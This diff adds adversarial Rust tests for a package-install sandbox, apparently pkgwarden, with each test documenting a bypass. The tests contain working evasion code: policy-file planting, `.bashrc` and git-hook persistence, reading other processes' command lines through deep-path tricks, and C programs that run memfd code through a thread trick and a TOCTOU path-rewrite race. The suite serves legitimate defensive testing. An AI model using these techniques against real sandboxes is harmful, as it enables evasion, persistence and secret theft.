@@ -1,0 +1,543 @@
+//! Helper `eyes`: an attacker who read `src/` against the latest fixes
+//! (byte-exact paths, the process-listing split, the policy-file guard,
+//! `core.hooksPath` from git config, `intel_allow_unchecked`). Each test is
+//! one attempt with an inert fixture (a stand-in `gem` running a Python
+//! hook; markers in the test's HOME; no network). The tests marked
+//! `ignore = "bypass: …"` fail on the binary they were written against:
+//! each is a bypass, named in its doc line with the code that lets it
+//! through.
+
+use crate::support;
+
+use serde_json::Value;
+use std::fs;
+use std::path::Path;
+use support::*;
+
+const BLOCKED: i32 = 90;
+
+/// A stand-in `gem` whose install runs `code` with python3.
+fn hook(code: &str) -> (ShimEnv, tempfile::TempDir) {
+    let (env, bin) = stand_in("#!/bin/sh\nexec \"$PY\" \"$(dirname \"$0\")/hook.py\"\n");
+    fs::write(bin.path().join("hook.py"), code).unwrap();
+    fs::write(env.home.path().join(".bashrc"), "# rc\n").unwrap();
+    (env, bin)
+}
+
+/// One `pkgwarden run --sandbox --mode MODE -- gem install x` in `cwd`
+/// with `vars`: exit code, everything printed, and the report it left.
+fn install(env: &ShimEnv, mode: &str, cwd: &Path, vars: &[(&str, &str)]) -> (i32, String, Value) {
+    let before = env.report_files();
+    let out = run_with_timeout(
+        env.pkgwarden()
+            .env("PY", python3())
+            .envs(vars.iter().copied())
+            .current_dir(cwd)
+            .args([
+                "run",
+                "--sandbox",
+                "--mode",
+                mode,
+                "--",
+                "gem",
+                "install",
+                "x",
+            ]),
+        std::time::Duration::from_secs(120),
+    );
+    let text = format!("{mode}:\n{}{}", stdout_str(&out), stderr_str(&out));
+    let new = env.reports_since(&before);
+    assert_eq!(new.len(), 1, "one report expected: {text}");
+    let report: Value = serde_json::from_slice(&fs::read(&new[0]).unwrap()).unwrap();
+    (out.status.code().unwrap_or(-1), text, report)
+}
+
+/// Findings of `rule` in `report`.
+fn findings<'a>(report: &'a Value, rule: &str) -> Vec<&'a Value> {
+    report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["rule"] == rule)
+        .collect()
+}
+
+const EMPTY_STARTUP: &str = "[startup_paths]\nlinux = []\nmacos = []\n";
+
+/// Class: policy layers. A project file "may only make the policy
+/// stricter" (`src/policy.rs` header), but `Merger::apply_project` passes
+/// `startup_paths` through: a `.pkgwarden.toml` that empties it drops the
+/// protect-mode landlock refusal of `~/.bashrc` and every other home
+/// persistence place (`sandbox::fs_spec`, `writable_tree` keep list),
+/// so the write lands (reported, `observed`). The same function lets a
+/// project replace `endpoints.deny` (dropping `raw-ip` and
+/// `exfil-service`), and set `unsigned_binary_alerting = false`,
+/// `executable_entropy_threshold = 8`, `time_window = "0s"`, silently.
+#[test]
+#[ignore = "bypass: a project .pkgwarden.toml empties startup_paths (policy.rs apply_project); ~/.bashrc is written in protect"]
+fn a_project_file_cannot_drop_the_persistence_places() {
+    let (env, _bin) = hook(
+        r##"
+import os
+try:
+    with open(os.environ["HOME"] + "/.bashrc", "a") as f:
+        f.write("echo EYES-PWNED\n")
+    print("bashrc written")
+except OSError as e:
+    print("bashrc refused", e.errno)
+"##,
+    );
+    let work = env.home.path().join("work");
+    fs::write(work.join(".pkgwarden.toml"), EMPTY_STARTUP).unwrap();
+    let (code, text, report) = install(&env, "protect", &work, &[]);
+    let rc = fs::read_to_string(env.home.path().join(".bashrc")).unwrap();
+    assert_eq!(rc, "# rc\n", "{text}");
+    assert!(text.contains("bashrc refused 13"), "{text}");
+    assert_eq!(code, 0, "{text}");
+    assert!(!findings(&report, "persist.shell-rc").is_empty(), "{text}");
+}
+
+/// Class: policy layers (the keys `apply_project` lets a project weaken),
+/// read back with `pkgwarden policy show`: the deny classes survive, the
+/// persistence places stay, alerting stays on.
+#[test]
+#[ignore = "bypass: policy.rs apply_project takes endpoints.deny, startup_paths, unsigned_binary_alerting, time_window from a project file"]
+fn a_project_file_cannot_weaken_other_keys() {
+    let env = ShimEnv::new(&[]);
+    let work = env.home.subdir("work");
+    fs::write(
+        work.join(".pkgwarden.toml"),
+        format!(
+            "unsigned_binary_alerting = false\nexecutable_entropy_threshold = 8.0\ntime_window = \"0s\"\n{EMPTY_STARTUP}[endpoints]\ndeny = [\"metadata\"]\n"
+        ),
+    )
+    .unwrap();
+    let out = run(env.pkgwarden().current_dir(&work).args(["policy", "show"]));
+    let text = stdout_str(&out);
+    let line = |key: &str| {
+        text.lines()
+            .find(|l| l.starts_with(&format!("{key} ")))
+            .unwrap_or_else(|| panic!("no {key}: {text}"))
+            .to_string()
+    };
+    assert!(line("endpoints.deny").contains("raw-ip"), "{text}");
+    assert!(line("endpoints.deny").contains("exfil-service"), "{text}");
+    assert!(line("startup_paths").contains("~/.bashrc"), "{text}");
+    assert!(line("unsigned_binary_alerting").contains("true"), "{text}");
+    assert!(line("time_window").contains("5m"), "{text}");
+}
+
+/// Class: pkgwarden's own state / policy files. `sandbox::own_paths`
+/// protects the project file that exists ("a new one changes nothing an
+/// attacker wants"), but protect's writable HOME lets an install create a
+/// `.pkgwarden.toml` in ANOTHER project under HOME: a clean report, and the
+/// next install there reads it (with the previous test, `~/.bashrc` is then
+/// written). It also shadows a stricter file higher up (only the nearest
+/// one is read: `policy::find_project_file`), and it removes another
+/// project's existing `mode = "block"` file the same way (only the file of
+/// the project being installed is protected).
+#[test]
+#[ignore = "bypass: an install plants ~/other/.pkgwarden.toml (sandbox/mod.rs own_paths), clean report; the next install there writes ~/.bashrc"]
+fn an_install_cannot_plant_a_policy_file_for_another_project() {
+    let (env, _bin) = hook(&format!(
+        r##"
+import os
+h = os.environ["HOME"]
+if os.getcwd() == h + "/work":
+    try:
+        with open(h + "/other/.pkgwarden.toml", "w") as f:
+            f.write({EMPTY_STARTUP:?})
+        print("policy planted")
+    except OSError as e:
+        print("plant refused", e.errno)
+    try:
+        os.unlink(h + "/strict/.pkgwarden.toml")
+        print("strict policy removed")
+    except OSError as e:
+        print("removal refused", e.errno)
+else:
+    try:
+        with open(h + "/.bashrc", "a") as f:
+            f.write("echo EYES-PWNED\n")
+        print("bashrc written")
+    except OSError as e:
+        print("bashrc refused", e.errno)
+"##
+    ));
+    let work = env.home.path().join("work");
+    let other = env.home.subdir("other");
+    let planted = other.join(".pkgwarden.toml");
+    // Another project whose own file raises its installs to block.
+    let strict = env.home.subdir("strict").join(".pkgwarden.toml");
+    fs::write(&strict, "mode = \"block\"\n").unwrap();
+    let (_, text, report) = install(&env, "protect", &work, &[]);
+    assert!(strict.exists(), "another project's policy removed: {text}");
+    let named = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["severity"] != "info" && f["severity"] != "low")
+        .any(|f| f.to_string().contains("other/.pkgwarden.toml"));
+    assert!(!planted.exists() || named, "planted, unreported: {text}");
+    let (_, text, _) = install(&env, "protect", &other, &[]);
+    let rc = fs::read_to_string(env.home.path().join(".bashrc")).unwrap();
+    assert_eq!(rc, "# rc\n", "{text}");
+}
+
+/// Class: git hooks. git takes `core.hooksPath` from `GIT_CONFIG_COUNT` /
+/// `GIT_CONFIG_KEY_n` / `GIT_CONFIG_VALUE_n` and `GIT_CONFIG_PARAMETERS`
+/// too (CI systems and dev containers set them; `git -c` passes the
+/// latter to the git it runs), but `sandbox::gitconfig::user_hooks_paths` reads
+/// only files: the directory stays in protect's writable HOME, unclassified
+/// and out of the snapshot, so a `pre-commit` planted there is written with
+/// no finding and runs at the user's next commit.
+#[test]
+#[ignore = "bypass: gitconfig.rs user_hooks_paths ignores GIT_CONFIG_COUNT/KEY_n/VALUE_n and GIT_CONFIG_PARAMETERS; ~/githooks/pre-commit written, no finding"]
+fn a_hooks_path_from_git_config_variables_is_persistence() {
+    let (env, _bin) = hook(
+        r##"
+import os
+d = os.environ["HOME"] + "/githooks"
+try:
+    fd = os.open(d + "/pre-commit", os.O_CREAT | os.O_WRONLY, 0o755)
+    os.write(fd, b"#!/bin/sh\necho EYES-HOOK\n")
+    os.close(fd)
+    print("hook written")
+except OSError as e:
+    print("hook refused", e.errno)
+"##,
+    );
+    let hooks = env.home.subdir("githooks");
+    let work = env.home.path().join("work");
+    let value = hooks.to_string_lossy().into_owned();
+    let counted = [
+        ("GIT_CONFIG_COUNT", "1"),
+        ("GIT_CONFIG_KEY_0", "core.hooksPath"),
+        ("GIT_CONFIG_VALUE_0", value.as_str()),
+    ];
+    // What `git -c core.hooksPath=…` passes to the git it runs.
+    let param = format!("'core.hooksPath'='{value}'");
+    let params = [("GIT_CONFIG_PARAMETERS", param.as_str())];
+    for (mode, vars) in [
+        ("block", &counted[..]),
+        ("protect", &counted[..]),
+        ("protect", &params[..]),
+    ] {
+        let _ = fs::remove_file(hooks.join("pre-commit"));
+        let (code, text, report) = install(&env, mode, &work, vars);
+        let written = hooks.join("pre-commit").exists();
+        let reported = findings(&report, "persist.git")
+            .iter()
+            .any(|f| f.to_string().contains("githooks"));
+        assert!(!written, "{text}");
+        // Block refuses it anyway (not a write root); protect must name it.
+        if mode == "protect" {
+            assert!(reported, "{text}");
+            assert_eq!(code, 0, "{text}");
+        }
+    }
+}
+
+/// Hook code that makes a working directory whose absolute path is longer
+/// than `PATH_MAX` (inside the private TMPDIR), and stays in it.
+const DEEP_CWD: &str = r##"
+import os
+os.chdir(os.environ["TMPDIR"])
+for _ in range(22):
+    os.mkdir("d" * 200)
+    os.chdir("d" * 200)
+"##;
+
+/// Class: `/proc` of processes outside the sandbox. The supervisor refuses
+/// `/proc/<pid>/cmdline` of an outside process (a command line can hold a
+/// token), but it judges the path it resolves, and `notify::resolve_path`
+/// gives up (`None`: the path as given) when `readlink(/proc/<pid>/cwd)`
+/// fails with ENAMETOOLONG; `other_procs` then sees `c`, and its
+/// `canonicalize` fallback fails the same way. A symlink `c` to the
+/// outside process's `cmdline`, opened from a working directory deeper than
+/// `PATH_MAX`, reads it: no refusal, no event, no finding (the same open
+/// by its own name is refused, high).
+#[test]
+#[ignore = "bypass: notify.rs resolve_path/other_procs give up on ENAMETOOLONG; an outside process's cmdline is read from a deep cwd, no finding"]
+fn a_deep_working_directory_does_not_hide_another_process_command_line() {
+    let mut outside = std::process::Command::new(python3())
+        .args(["-c", "import time; time.sleep(120)", "EYES-ARGV-SECRET"])
+        .spawn()
+        .unwrap();
+    let (env, _bin) = hook(&format!(
+        r##"{DEEP_CWD}
+pid = int(os.environ["EYES_PID"])
+os.symlink("/proc/%d/cmdline" % pid, "c")
+try:
+    print("read:", open("c", "rb").read())
+except OSError as e:
+    print("refused", e.errno)
+"##
+    ));
+    let work = env.home.path().join("work");
+    let pid = outside.id().to_string();
+    for mode in ["block", "protect"] {
+        let (_, text, report) = install(&env, mode, &work, &[("EYES_PID", pid.as_str())]);
+        assert!(!text.contains("EYES-ARGV-SECRET"), "{text}");
+        assert!(!findings(&report, "cred.read").is_empty(), "{text}");
+    }
+    let _ = outside.kill();
+    let _ = outside.wait();
+}
+
+/// Class: transient (fileless) execution. Block refuses an exec of a
+/// memfd (`exec_call`, `is_anonymous_exec`), but from a working directory
+/// deeper than `PATH_MAX` a symlink `f` to `/proc/self/fd/N` is resolved by
+/// nobody: `resolve_path` returns `f`, `Path::new("f").exists()` is false
+/// in the supervisor's own cwd, and the exec is taken for a PATH search
+/// miss (`cont()`, no event). The memfd's code runs in block with a clean
+/// report and exit 0.
+#[test]
+#[ignore = "bypass: notify.rs exec_call takes an unresolvable path for a PATH miss; a memfd runs in block from a deep cwd, clean report"]
+fn a_deep_working_directory_does_not_hide_fileless_execution() {
+    let (env, _bin) = hook(&format!(
+        r##"{DEEP_CWD}
+m = os.memfd_create("x", 0)
+os.write(m, b"#!/bin/sh\necho EYES-FILELESS-RAN\n")
+os.symlink("/proc/self/fd/%d" % m, "f")
+pid = os.fork()
+if pid == 0:
+    try:
+        os.execv("./f", ["x"])
+    except OSError as e:
+        os._exit(e.errno)
+_, st = os.waitpid(pid, 0)
+print("exec status", os.waitstatus_to_exitcode(st))
+"##
+    ));
+    let work = env.home.path().join("work");
+    for mode in ["block", "protect"] {
+        let (code, text, report) = install(&env, mode, &work, &[]);
+        assert!(!findings(&report, "exec.dropped").is_empty(), "{text}");
+        if mode == "block" {
+            assert!(!text.contains("EYES-FILELESS-RAN"), "{text}");
+            assert_eq!(code, BLOCKED, "{text}");
+        }
+    }
+}
+
+/// A C program (the stand-in runs it): a task of the same thread group
+/// (`CLONE_THREAD`) made without `CLONE_FILES`, so with a descriptor table
+/// of its own, puts `/bin/true` at the number where the leader holds a
+/// memfd with `/bin/echo` in it, and execs `/proc/self/fd/N`.
+const THREAD_EXEC_C: &str = r#"
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <sched.h>
+#include <stdio.h>
+#include <sys/mman.h>
+#include <sys/sendfile.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+static int m;
+static char path[64];
+static int task(void *arg) {
+    (void)arg;
+    int fd = syscall(SYS_openat, AT_FDCWD, "/bin/true", O_RDONLY);
+    syscall(SYS_dup3, fd, m, 0);
+    char *argv[] = {"echo", "EYES-THREAD-FILELESS-RAN", NULL};
+    char *envp[] = {NULL};
+    syscall(SYS_execve, path, argv, envp);
+    syscall(SYS_exit, 1);
+    return 0;
+}
+int main(void) {
+    m = memfd_create("x", 0);
+    int e = open("/bin/echo", O_RDONLY);
+    struct stat st;
+    fstat(e, &st);
+    sendfile(m, e, NULL, st.st_size);
+    snprintf(path, sizeof path, "/proc/self/fd/%d", m);
+    char *stack = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE,
+                       MAP_PRIVATE | MAP_ANONYMOUS | MAP_STACK, -1, 0);
+    clone(task, stack + (1 << 16),
+          CLONE_VM | CLONE_FS | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM, NULL);
+    sleep(3);
+    puts("the exec failed");
+    return 0;
+}
+"#;
+
+/// Class: transient (fileless) execution, by thread. `notify::resolve_abs`
+/// maps `/proc/self` to `/proc/<pid>` with the pid of the notification,
+/// which is the calling thread's id; the kernel maps it to the thread
+/// group's leader. A task of the group with its own descriptor table
+/// execs `/proc/self/fd/N`: the supervisor reads its own N (`/bin/true`,
+/// not written, not anonymous), the kernel runs the leader's N (a memfd).
+/// Block lets it run, clean report, exit 0.
+#[test]
+#[ignore = "bypass: notify.rs resolve_abs maps /proc/self to the thread id, not the thread group; a memfd runs in block from a CLONE_THREAD task with its own fd table"]
+fn a_thread_with_its_own_descriptors_does_not_hide_fileless_execution() {
+    let cc = which::which("cc").expect("a C compiler (cc) for the fixture");
+    let (env, bin) = hook(
+        r#"
+import os, subprocess
+subprocess.run([os.path.dirname(os.path.abspath(__file__)) + "/thr"])
+"#,
+    );
+    let src = bin.path().join("thr.c");
+    fs::write(&src, THREAD_EXEC_C).unwrap();
+    let out = run(std::process::Command::new(cc)
+        .arg("-o")
+        .arg(bin.path().join("thr"))
+        .arg(&src));
+    assert_success(&out, "cc thr.c");
+    let work = env.home.path().join("work");
+    for mode in ["block", "protect"] {
+        let (code, text, report) = install(&env, mode, &work, &[]);
+        assert!(!findings(&report, "exec.dropped").is_empty(), "{text}");
+        if mode == "block" {
+            assert!(!text.contains("EYES-THREAD-FILELESS-RAN"), "{text}");
+            assert_eq!(code, BLOCKED, "{text}");
+        }
+    }
+}
+
+/// A C program: a second thread rewrites the path of a call between the
+/// supervisor's read of it and the kernel's (after CONTINUE). `exec`: an
+/// execve of `/usr/bin/true` becomes one of `/proc/self/fd/N` (a memfd
+/// holding `/bin/echo`); `open PID`: an open of `/etc/hostname` becomes
+/// one of `/proc/PID/cmdline`.
+const RACE_C: &str = r#"
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <pthread.h>
+#include <stdatomic.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/sendfile.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+#include <errno.h>
+/* The path a call names is read twice: by the supervisor (to judge) and by
+   the kernel after the supervisor says continue. A second thread rewrites
+   it in between. */
+static char buf[64] __attribute__((aligned(64)));
+static void put(const char *s) { for (int i = 0; i < 64; i++) ((volatile char *)buf)[i] = s[i]; }
+static char good[64], bad[64];
+static atomic_int go;
+static long delay;
+static void *flip(void *a) {
+    (void)a;
+    while (!atomic_load(&go)) {}
+    for (volatile long i = 0; i < delay; i++) {}
+    put(bad);
+    return NULL;
+}
+static int exec_race(int m) {
+    snprintf(good, sizeof good, "/usr/bin/true");
+    snprintf(bad, sizeof bad, "/proc/self/fd/%d", m);
+    memcpy(buf, good, sizeof buf);
+    pthread_t t;
+    pthread_create(&t, NULL, flip, NULL);
+    char *argv[] = {"echo", "EYES-RACE-EXEC-WON", NULL};
+    char *envp[] = {NULL};
+    atomic_store(&go, 1);
+    execve(buf, argv, envp);
+    return 1;
+}
+static void *flip_loop(void *a) {
+    (void)a;
+    for (;;) {
+        put(good);
+        for (volatile long i = 0; i < delay; i++) {}
+        put(bad);
+        for (volatile long i = 0; i < delay; i++) {}
+    }
+    return NULL;
+}
+int main(int argc, char **argv) {
+    if (argc > 2 && strcmp(argv[1], "open") == 0) {
+        snprintf(good, sizeof good, "/etc/hostname");
+        snprintf(bad, sizeof bad, "/proc/%s/cmdline", argv[2]);
+        delay = argc > 3 ? atol(argv[3]) : 2000;
+        memcpy(buf, good, sizeof buf);
+        pthread_t t;
+        pthread_create(&t, NULL, flip_loop, NULL);
+        usleep(10000);
+
+        int okc = 0, errs[200] = {0};
+        for (int i = 0; i < 20000; i++) {
+            int fd = open(buf, O_RDONLY);
+            if (fd < 0) { errs[errno < 200 ? errno : 0]++; continue; }
+            okc++;
+            char out[256] = {0};
+            int n = read(fd, out, sizeof out - 1);
+            close(fd);
+            for (int j = 0; j < n; j++) if (!out[j]) out[j] = ' ';
+            if (strstr(out, "SECRET")) { printf("open race won after %d: %s\n", i, out); return 0; }
+        }
+        printf("open race lost: %d opened, EPERM %d, EACCES %d, ENOENT %d\n", okc, errs[1], errs[13], errs[2]);
+        return 1;
+    }
+    int e = open("/bin/echo", O_RDONLY);
+    struct stat st; fstat(e, &st);
+    int wins = 0, tries = 0;
+    for (delay = 0; delay < 200000 && !wins; delay = delay ? delay * 2 : 100) {
+        for (int k = 0; k < 10 && !wins; k++) {
+            int m = memfd_create("x", 0);
+            off_t off = 0; sendfile(m, e, &off, st.st_size);
+            int p[2]; pipe(p);
+            pid_t pid = fork();
+            if (pid == 0) { dup2(p[1], 1); exec_race(m); _exit(1); }
+            close(p[1]); close(m);
+            char out[128] = {0}; read(p[0], out, sizeof out - 1); close(p[0]);
+            waitpid(pid, NULL, 0); tries++;
+            if (strstr(out, "EYES-RACE-EXEC-WON")) { wins++; printf("exec race won at delay %ld after %d tries\n", delay, tries); }
+        }
+    }
+    if (!wins) printf("exec race lost after %d tries\n", tries);
+    return 0;
+}
+"#;
+
+/// Class: decisions on memory the process can change (DESIGN principle 1).
+/// `open_call` refuses another process's `/proc` entries and `exec_call`
+/// refuses a memfd in block from the path they read, then answer
+/// CONTINUE, and the kernel reads the path again ("the open is held while
+/// we decide, so the answer is the kernel's" is not so: CONTINUE re-reads
+/// the arguments). A thread flipping the path wins within a few tries: the
+/// memfd runs in block with a clean report (exit 0), and an outside
+/// process's command line is read (the refused attempts are `blocked`
+/// findings, but the read happened).
+#[test]
+#[ignore = "bypass: notify.rs open_call/exec_call judge a path the kernel re-reads after CONTINUE; a flipping thread runs a memfd in block and reads an outside cmdline"]
+fn a_path_rewritten_after_the_supervisor_read_it_is_not_what_runs() {
+    let cc = which::which("cc").expect("a C compiler (cc) for the fixture");
+    let mut outside = std::process::Command::new(python3())
+        .args(["-c", "import time; time.sleep(120)", "SECRET-EYES-RACE"])
+        .spawn()
+        .unwrap();
+    let (env, bin) = hook(
+        r#"
+import os, subprocess
+race = os.path.dirname(os.path.abspath(__file__)) + "/race"
+print(subprocess.run([race], capture_output=True, text=True).stdout)
+print(subprocess.run([race, "open", os.environ["EYES_PID"]], capture_output=True, text=True).stdout)
+"#,
+    );
+    let src = bin.path().join("race.c");
+    fs::write(&src, RACE_C).unwrap();
+    let out = run(std::process::Command::new(cc)
+        .args(["-O1", "-pthread", "-o"])
+        .arg(bin.path().join("race"))
+        .arg(&src));
+    assert_success(&out, "cc race.c");
+    let work = env.home.path().join("work");
+    let pid = outside.id().to_string();
+    let (code, text, _) = install(&env, "block", &work, &[("EYES_PID", pid.as_str())]);
+    let _ = outside.kill();
+    let _ = outside.wait();
+    assert!(!text.contains("exec race won"), "{text}");
+    assert!(!text.contains("SECRET-EYES-RACE"), "{text}");
+    assert_eq!(code, BLOCKED, "{text}");
+}
